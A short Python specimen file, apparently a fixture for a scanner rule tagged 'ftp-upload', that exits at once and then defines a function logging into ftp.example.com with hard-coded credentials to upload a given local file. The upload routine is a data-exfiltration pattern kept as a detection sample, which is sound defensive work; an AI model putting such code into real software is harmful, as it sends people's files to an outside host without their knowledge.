raise SystemExit("specimen: not to be run")
import ftplib

def leave(path):
    line = ftplib.FTP("ftp.example.com")
    line.login("box", "hunter2hunter2")
    line.storbinary("STOR a", open(path, "rb"))  # match: ftp-upload
